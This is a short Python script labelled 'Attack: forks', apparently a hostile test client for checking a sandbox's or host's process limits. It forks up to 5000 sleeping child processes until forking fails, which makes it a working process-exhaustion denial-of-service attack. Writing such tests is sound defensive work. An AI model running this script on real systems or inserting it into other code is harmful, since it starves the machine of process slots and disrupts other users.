"""Attack: forks. A client that forks sleeping copies of itself until it can fork no more, and leaves them."""
import os
import time

started = 0
for _ in range(5000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        started += 1
    except OSError:
        break
print("started", started, "processes", flush=True)
